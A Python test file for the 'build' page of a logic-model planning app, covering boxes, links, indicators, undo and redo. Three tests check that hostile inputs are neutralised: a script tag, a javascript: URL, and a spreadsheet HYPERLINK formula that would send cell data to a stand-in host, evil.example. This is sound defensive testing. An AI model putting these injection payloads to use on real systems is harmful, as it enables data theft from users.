"""Build: add boxes and links, refuse what would break the model with the reason, undo and redo."""

import pytest
from app_helpers import button, framework, messages, open_page, plain, refresh, saved, widget
from builder_data import new_forest_data
from factories import link, minimal, node

from logicmodel import from_data
from logicmodel.core import samples
from logicmodel.core.readwrite import dumps, loads
from logicmodel.editing.edit import new_framework


def add_box(at, label, level):
    at.text_input(key="add_box_label").input(label)
    at.selectbox(key="add_box_level").set_value(level)
    return button(at, "Add the box").click().run()


def add_link(at, source, target):
    at.radio(key="build_section").set_value("Links").run()
    at.selectbox(key="link_source").set_value(source).run()
    at.selectbox(key="link_target").set_value(target)
    return button(at, "Add the link").click().run()


@pytest.fixture
def walking_app():
    return open_page("build", from_data(new_forest_data()))


def test_add_three_boxes_and_link_them():
    at = open_page("build", new_framework("Active Enfield"))
    add_box(at, "Free summer swimming", "activity")
    add_box(at, "More children active", "intermediate")
    add_box(at, "Fewer overweight children", "strategic")
    assert [(n.id, n.level) for n in framework(at).nodes] == [
        ("free-summer-swimming", "activity"),
        ("more-children-active", "intermediate"),
        ("fewer-overweight-children", "strategic"),
    ]
    add_link(at, "free-summer-swimming", "more-children-active")
    add_link(at, "more-children-active", "fewer-overweight-children")
    assert not at.exception
    assert framework(at).link_pairs == [
        ("free-summer-swimming", "more-children-active"),
        ("more-children-active", "fewer-overweight-children"),
    ]
    assert any("Linked More children active (Intermediate outcomes) → Fewer" in m for m in messages(at, "success")), (
        messages(at, "success")
    )


def test_added_box_is_selected_for_editing():
    at = open_page("build", new_framework("T"))
    add_box(at, "Health walks", "activity")
    at.radio(key="build_section").set_value("Edit a box").run()
    assert at.selectbox(key="build_node").value == "health-walks"
    assert widget(at, "text_input", "box_label_health-walks").value == "Health walks"


def test_box_without_label_is_not_added():
    at = open_page("build", new_framework("T"))
    button(at, "Add the box").click().run()
    assert not framework(at).nodes
    assert "Not added: give the box a label." in messages(at)


def test_link_targets_offer_only_what_the_rules_allow(walking_app):
    at = walking_app
    at.radio(key="build_section").set_value("Links").run()
    at.selectbox(key="link_source").set_value("sessions").run()
    assert (
        at.selectbox(key="link_target").options
        == [
            "More older people active (Intermediate outcomes)",
            "Fewer falls (Strategic outcomes)",
        ][1:]
    )  # already linked to "active"; earlier levels and itself are not offered
    reasons = [plain(m.value) for m in at.markdown if "it is at an earlier level" in plain(m.value)]
    assert len(reasons) == 2  # the two activities


def test_loop_is_refused_with_the_reason():
    fw = from_data(minimal([node("a", "intermediate"), node("b", "intermediate")], [link("a", "b")]))
    at = open_page("build", fw)
    at.radio(key="build_section").set_value("Links").run()
    at.selectbox(key="link_source").set_value("b").run()
    texts = [plain(m.value) for m in at.markdown]
    assert "- A (Intermediate outcomes): it already leads to 'B', so the link would make a loop" in texts
    assert any("cannot lead to any other box" in m for m in messages(at, "warning"))
    assert framework(at).link_pairs == [("a", "b")]


def test_level_change_that_reverses_a_link_is_refused_and_model_kept(walking_app):
    at = walking_app
    before = framework(at)
    at.radio(key="build_section").set_value("Edit a box").run()
    at.selectbox(key="build_node").set_value("falls").run()
    widget(at, "selectbox", "box_level_falls").set_value("activity")
    button(at, "Save the box").click().run()
    assert framework(at) is before
    assert any("Not changed" in m and "goes backwards" in m for m in messages(at)), messages(at)


def test_edit_box_fields(walking_app):
    at = walking_app
    at.radio(key="build_section").set_value("Edit a box").run()
    at.selectbox(key="build_node").set_value("walk").run()
    widget(at, "text_input", "box_label_walk").input("Health walks for carers")
    widget(at, "number_input", "box_reach_walk").set_value(250)
    widget(at, "number_input", "box_cost_walk").set_value(12000.0)
    button(at, "Save the box").click().run()
    walk = framework(at).node_by_id["walk"]
    assert (walk.label, walk.reach, walk.cost.amount, walk.cost.currency) == (
        "Health walks for carers",
        250,
        12000.0,
        "GBP",
    )
    # the form shows the saved values after the rerun
    assert widget(at, "text_input", "box_label_walk").value == "Health walks for carers"
    # and the model's values again after Undo
    button(at, "Undo").click().run()
    assert (
        widget(at, "text_input", "box_label_walk").value
        == framework(at).node_by_id["walk"].label
        != ("Health walks for carers")
    )


def test_undo_and_redo_an_added_box():
    at = open_page("build", new_framework("T"))
    add_box(at, "Walks", "activity")
    assert len(framework(at).nodes) == 1
    assert plain(button(at, "Undo").help) == "Undo: Added 'Walks'."
    button(at, "Undo").click().run()
    assert not framework(at).nodes
    assert "Undone: Added 'Walks'." in messages(at, "info")  # says what was taken back
    button(at, "Redo").click().run()
    assert [n.label for n in framework(at).nodes] == ["Walks"]
    assert "Redone: Added 'Walks'." in messages(at, "info")


def test_undo_is_disabled_with_nothing_to_undo():
    at = open_page("build", new_framework("T"))
    assert button(at, "Undo").disabled and button(at, "Redo").disabled


def test_delete_box_says_what_goes_with_it(walking_app):
    at = walking_app
    at.radio(key="build_section").set_value("Edit a box").run()
    at.selectbox(key="build_node").set_value("active").run()
    assert any("also removes 3 links" in plain(c.value) for c in at.caption)
    button(at, "Delete this box").click().run()
    fw = framework(at)
    assert "active" not in fw.node_by_id and fw.link_pairs == [("walk", "sessions")]
    done = "Deleted 'More older people active' and its 3 links. Undo brings them back."
    assert done in messages(at, "success")
    assert not any("Deleting" in m for m in messages(at, "success"))  # said after the fact, in the past tense
    button(at, "Undo").click().run()  # the hint is said, not saved: undoing does not repeat it
    assert "Undone: Deleted 'More older people active' and its 3 links." in messages(at, "info")


def test_add_indicator_from_library(walking_app):
    at = walking_app
    at.radio(key="build_section").set_value("Edit a box").run()
    at.selectbox(key="build_node").set_value("falls").run()
    at.selectbox(key="ind_library").set_value("phof-inactive-adults")
    at.text_input(key="ind_baseline").input("24.5")
    button(at, "Add the indicator").click().run()
    added = framework(at).node_by_id["falls"].indicators[-1]
    assert (added.name, added.baseline) == ("Percentage of physically inactive adults", 24.5)
    assert "C17b" in added.source
    assert added.fingertips_id == 93015  # so a Fingertips download can be brought in against it
    assert loads(dumps(framework(at))).node_by_id["falls"].indicators[-1].fingertips_id == 93015


def test_add_typed_indicator_and_remove_it(walking_app):
    at = walking_app
    at.radio(key="build_section").set_value("Edit a box").run()
    at.selectbox(key="build_node").set_value("walk").run()
    at.text_input(key="ind_name").input("Walkers a week")
    at.text_input(key="ind_target").input("at least 200")
    button(at, "Add the indicator").click().run()
    assert framework(at).node_by_id["walk"].indicators[0].target == "at least 200"
    button(at, "Remove indicator 1").click().run()
    assert not framework(at).node_by_id["walk"].indicators


def test_add_outcome_from_library():
    at = open_page("build", new_framework("T"))
    at.selectbox(key="lib_outcome").set_value("sf-physical-wellbeing")
    button(at, "Add the outcome").click().run()
    added = framework(at).nodes[0]
    assert added.level == "strategic" and added.indicators


def test_an_outcome_from_the_library_brings_its_indicators_fingertips_id():
    at = open_page("build", new_framework("T"))
    at.selectbox(key="lib_outcome").set_value("ph-child-healthy-weight")
    button(at, "Add the outcome").click().run()
    added = framework(at).nodes[0].indicators[0]
    assert (added.name, added.fingertips_id) == ("Reception prevalence of overweight (including obesity)", 20601)


def test_rename_box_rewrites_links(walking_app):
    at = walking_app
    at.radio(key="build_section").set_value("Edit a box").run()
    at.selectbox(key="build_node").set_value("active").run()
    widget(at, "text_input", "box_newid_active").input("more-active")
    button(at, "Change the id").click().run()
    fw = framework(at)
    assert ("more-active", "falls") in fw.link_pairs and "active" not in fw.node_by_id
    assert at.selectbox(key="build_node").value == "more-active"


def test_edit_and_delete_link(walking_app):
    at = walking_app
    at.radio(key="build_section").set_value("Links").run()
    at.selectbox(key="link_source").set_value("active").run()
    assert len(at.selectbox(key="build_link").options) == 3  # the links to and from 'active' only
    at.selectbox(key="build_link").set_value(("active", "falls")).run()
    widget(at, "selectbox", "lk_strength_active_falls").set_value("strong")
    button(at, "Save the link").click().run()
    assert framework(at).links[-1].strength == "strong"
    button(at, "Delete this link").click().run()
    assert ("active", "falls") not in framework(at).link_pairs


def test_details_levels_and_stakeholders(walking_app):
    at = walking_app
    at.radio(key="build_section").set_value("Details").run()
    widget(at, "text_input", "meta_area_").input("New Forest")
    button(at, "Save the details").click().run()
    assert framework(at).meta.area == "New Forest"

    at.radio(key="build_section").set_value("Stakeholders").run()
    at.text_input(key="add_sh_name").input("Integrated Care Board")
    at.selectbox(key="add_sh_role").set_value("commissioner")
    button(at, "Add the stakeholder").click().run()
    assert framework(at).stakeholders[-1].id == "integrated-care-board"

    at.radio(key="build_section").set_value("Levels").run()
    at.text_input(key="add_level_label").input("Impact")
    button(at, "Add the level").click().run()
    assert framework(at).level_ids[-1] == "impact"
    at.button(key="lv_up_impact").click().run()
    assert framework(at).level_ids[-2:] == ["impact", "strategic"]
    at.button(key="lv_up_impact").click().run()  # before intermediate: 'active' -> 'falls' is fine, no box at impact
    assert framework(at).level_ids.index("impact") == 2


def test_moving_a_level_that_reverses_links_is_refused(walking_app):
    at = walking_app
    at.radio(key="build_section").set_value("Levels").run()
    at.button(key="lv_up_strategic").click().run()
    assert framework(at).level_ids[-1] == "strategic"
    assert any("goes backwards" in m for m in messages(at))


def test_user_text_is_escaped(walking_app):
    at = open_page("build", new_framework("T"))
    add_box(at, "**bold** :red[x] <script>alert(1)</script>", "activity")
    fw = framework(at)
    assert fw.nodes[0].label == "**bold** :red[x] <script>alert(1)</script>"
    assert not at.exception
    rendered = [m.value for m in at.success]
    assert all("<script>" not in m for m in rendered) and any(r"\<script\>" in m for m in rendered)


def test_edit_an_indicator_baseline_and_target():
    at = open_page("build", from_data(new_forest_data()))
    at.radio(key="build_section").set_value("Edit a box").run()
    at.selectbox(key="build_node").set_value("active").run()
    widget(at, "text_input", "ie_baseline_active").input("61.2")
    widget(at, "text_input", "ie_target_active").input("65")
    button(at, "Save the indicator").click().run()
    indicator = framework(at).node_by_id["active"].indicators[0]
    assert (indicator.name, indicator.baseline, indicator.target) == (
        "Percentage of physically active adults",
        61.2,
        65,
    )
    assert indicator.source == "Active Lives Adult survey"


def test_edit_a_box_shows_its_links():
    at = open_page("build", from_data(new_forest_data()))
    at.radio(key="build_section").set_value("Edit a box").run()
    at.selectbox(key="build_node").set_value("active").run()
    assert any(
        "Comes from: Weekly walks delivered (Outputs); Active lifestyles advisers in GP surgeries (Activities)"
        " · Leads to: Fewer falls (Strategic outcomes)" in plain(c.value)
        for c in at.caption
    )


def test_add_edit_and_refuse_evidence():
    at = open_page("build", from_data(new_forest_data()))
    at.radio(key="build_section").set_value("Edit a box").run()
    at.selectbox(key="build_node").set_value("walk").run()
    at.text_input(key="ev_title").input("Walking for health evaluation")
    button(at, "Add the evidence").click().run()
    widget(at, "text_input", "ee_url_walk").input("https://example.org/walks")
    widget(at, "selectbox", "ee_strength_walk").set_value("moderate")
    button(at, "Save the evidence").click().run()
    evidence = framework(at).node_by_id["walk"].evidence[0]
    assert (evidence.title, evidence.url, evidence.strength) == (
        "Walking for health evaluation",
        "https://example.org/walks",
        "moderate",
    )
    widget(at, "text_input", "ee_url_walk").input("javascript:alert(1)")
    button(at, "Save the evidence").click().run()
    assert framework(at).node_by_id["walk"].evidence[0].url == "https://example.org/walks"
    assert any("should be a web address starting http:// or https://" in m for m in messages(at))


def test_levels_say_what_they_hold_in_plain_english(walking_app):
    at = walking_app
    at.radio(key="build_section").set_value("Levels").run()
    headings = [plain(m.value) for m in at.markdown]
    assert any("holds activities ·" in h for h in headings), headings
    assert not any("activitys" in h for h in headings)


def test_deleting_a_stakeholder_says_what_was_done(walking_app):
    at = walking_app
    at.radio(key="build_section").set_value("Stakeholders").run()
    sid = framework(at).stakeholders[0].id
    name = framework(at).stakeholders[0].name
    at.button(key=f"sh_del_{sid}").click().run()
    assert sid not in {s.id for s in framework(at).stakeholders}
    done = messages(at, "success")
    assert any(m.startswith(f"Deleted '{name}'") and "Undo brings it back." in m for m in done), done


def test_a_box_form_says_where_stakeholders_come_from_when_there_are_none():
    at = open_page("build", from_data(minimal([node("swim")])))
    at.radio(key="build_section").set_value("Edit a box").run()
    picker = next(m for m in at.multiselect if m.key.startswith("box_stakeholders_"))
    assert picker.placeholder == "Add stakeholders in the Stakeholders section first"


def test_outcome_library_choices_read_without_nested_brackets():
    at = open_page("build", new_framework("T"))
    options = at.selectbox(key="lib_outcome").options
    assert "Physical wellbeing · Government outcomes for sport (Sporting Future, 2015)" in options
    assert not any("))" in o for o in options)


def test_undo_and_redo_are_saved_and_survive_a_refresh():
    sample = samples.samples()[0]
    at = open_page("home")
    at.button(key=f"open_sample_{sample.name}").click().run()
    at.switch_page("app_pages/build.py").run()
    add_box(at, "Walking football", "activity")
    add_box(at, "Walking netball", "activity")
    assert saved(at).version == 3
    again = refresh(at, "build")  # a new session on the same address: undo knows what the last edit was
    assert plain(button(again, "Undo").proto.help) == "Undo: Added 'Walking netball'."
    button(again, "Undo").click().run()
    assert "Undone: Added 'Walking netball'." in messages(again, "info")
    assert saved(again).framework == framework(again) and saved(again).version == 4
    assert "Walking netball" not in {n.label for n in framework(again).nodes}
    third = refresh(again, "build")
    button(third, "Undo").click().run()
    assert framework(third) == sample.load()  # back to the sample as opened
    button(third, "Redo").click().run()
    assert "Redone: Added 'Walking football'." in messages(third, "info")
    labels = {n.label for n in framework(refresh(third, "build")).nodes}
    assert "Walking football" in labels and "Walking netball" not in labels


def test_indicator_library_offers_what_suits_the_box_first(walking_app):
    at = walking_app
    at.radio(key="build_section").set_value("Edit a box").run()
    at.selectbox(key="build_node").set_value("falls").run()  # "Fewer falls"
    offered = at.selectbox(key="ind_library").options
    assert offered[0].startswith("None")
    assert offered[1].removeprefix("⚠ code not confirmed · ").startswith("Emergency hospital admissions due to falls")


def test_all_boxes_csv_download_writes_formulas_as_text(deferred_downloads):
    """A label such as =HYPERLINK(...) downloads as text a spreadsheet shows, never runs; counts stay numbers."""
    hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Report")'
    data = minimal(
        [node("walk", label=hostile), node("fit", "strategic", label="-Fitter, @home")], [link("walk", "fit")]
    )
    open_page("build", from_data(data))
    expected = (
        "\ufeffBox,Level,Stakeholders,Indicators,Links in,Links out,Id\r\n"
        '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Report"")",Activities,,0,0,1,walk\r\n'
        '"\'-Fitter, @home",Strategic outcomes,,0,1,0,fit\r\n'
    ).encode()
    download = deferred_downloads["download_boxes_csv"]
    assert (download.file_name, download.mime) == ("test-boxes.csv", "text/csv")
    assert download() == expected


def test_a_typed_control_character_is_refused_saying_where():
    at = open_page("build", new_framework("Active Slough"))
    add_box(at, "Walks\x07 for all", "activity")
    assert framework(at).nodes == ()
    assert any("contains a control character (U+0007) at position 6" in m for m in messages(at)), messages(at)


def test_unconfirmed_library_entry_is_badged_in_the_picker_never_in_the_indicator(walking_app):
    """The picker says a code is not confirmed; the indicator added carries a clean source, and its row the badge."""
    at = walking_app
    at.radio(key="build_section").set_value("Edit a box").run()
    at.selectbox(key="build_node").set_value("falls").run()
    picker = at.selectbox(key="ind_library")
    assert picker.format_func("phof-falls-65").startswith("⚠ code not confirmed · Emergency hospital")
    assert "not confirmed" not in picker.format_func("phof-inactive-adults")  # a confirmed code: no badge
    picker.set_value("phof-falls-65")
    button(at, "Add the indicator").click().run()
    added = framework(at).node_by_id["falls"].indicators[-1]
    assert added.source == "Public Health Outcomes Framework (Fingertips 22401)"
    words = " ".join(str(v) for v in added.model_dump().values() if v).casefold()
    assert "confirmed" not in words and "c29" not in words
    badges = [m.value for m in at.markdown if "badge[" in m.value]
    assert any("code not confirmed" in b for b in badges), badges
